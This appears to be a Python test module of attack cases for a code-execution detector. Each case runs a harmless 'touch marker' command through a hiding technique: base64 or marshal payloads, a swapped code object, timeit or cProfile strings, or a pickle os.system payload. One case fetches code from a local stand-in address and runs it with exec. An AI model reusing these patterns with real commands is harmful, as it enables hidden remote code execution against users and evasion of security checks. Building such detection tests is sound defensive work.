"""Act when called, by code that they carry as text, bytes or functions within functions, and run."""

import base64
import os
import pickle
import types

from attacks.frame import M, case

# Functions below import some of these again; CPython 3.11 and later compile calls of what the module imports too in another way.
CMD = "touch " + M


@case("call")
def plain():
    def f():
        os.system(CMD)

    return f


@case("call")
def fetch():
    def f():
        import urllib.request

        exec(urllib.request.urlopen("http://127.0.0.1:1/").read())

    return f


@case("call")
def inner():
    def f():
        def g():
            def h():
                return eval("__import__('os').system('touch marker')")

            return h()

        return g()

    return f


@case("call")
def decoded():
    c = base64.b64encode(b"import os; os.system('touch marker')")

    def f():
        exec(base64.b64decode(c))

    return f


@case("call")
def marsh():
    import marshal

    b = marshal.dumps(compile("import os; os.system('touch marker')", "x", "exec"))

    def f():
        exec(marshal.loads(b))

    return f


@case("call")
def ftype():
    def f():
        import types, marshal

        return types.FunctionType(marshal.loads(B), globals())()

    import marshal

    globals()["B"] = marshal.dumps(compile("import os; os.system('touch marker')", "x", "exec"))
    return f


@case("call")
def codeset():
    def g():
        return __import__("os").system("touch marker")

    c = g.__code__

    def f():
        def h():
            pass

        h.__code__ = c
        return h()

    return f


@case("call")
def timeit_():
    def f():
        import timeit

        return timeit.timeit("__import__('os').system('touch marker')", number=1)

    return f


@case("call")
def pdb_():
    def f():
        import cProfile

        return cProfile.run("__import__('os').system('touch marker')")

    return f


@case("call")
def pick():
    def f():
        import pickle

        return pickle.loads(b"cos\nsystem\n(S'touch marker'\ntR.")

    return f
